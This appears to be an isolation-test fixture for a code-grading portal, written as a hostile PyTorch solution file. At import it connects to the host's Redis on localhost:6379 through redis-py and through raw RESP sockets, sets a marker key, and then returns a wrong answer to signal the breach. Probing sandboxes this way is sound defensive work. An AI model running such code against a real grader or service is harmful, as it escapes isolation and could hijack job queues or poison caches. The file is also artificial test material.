"""Writes to the host's Redis (the portal's broker and cache) on 127.0.0.1:6379: SET a key named
after the marker. Without a network namespace the key would be set, and a candidate could queue
jobs on the worker's broker or poison the site's cache."""

from __future__ import annotations

import socket
import sys

import torch
import torch.distributed as dist

KEY = "pkb-attack:__MARKER__"
got_through: list[str] = []


def resp(*parts: str) -> bytes:
    out = f"*{len(parts)}\r\n".encode()
    for part in parts:
        data = part.encode()
        out += b"$%d\r\n%s\r\n" % (len(data), data)
    return out


def attack() -> None:
    try:  # the portal's own client is installed next to torch
        import redis
        from redis.backoff import NoBackoff
        from redis.retry import Retry

        client = redis.Redis(host="127.0.0.1", port=6379, socket_timeout=2, socket_connect_timeout=2,
                             retry=Retry(NoBackoff(), 0))
        if client.set(KEY, "owned"):
            got_through.append("redis-py SET")
    except Exception:  # noqa: BLE001
        pass
    for host in ("127.0.0.1", "localhost", "::1"):
        try:
            with socket.create_connection((host, 6379), timeout=2) as sock:
                sock.sendall(resp("SET", KEY, "owned"))
                if sock.recv(64).startswith(b"+OK"):
                    got_through.append(f"raw SET via {host}")
        except OSError:
            pass


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
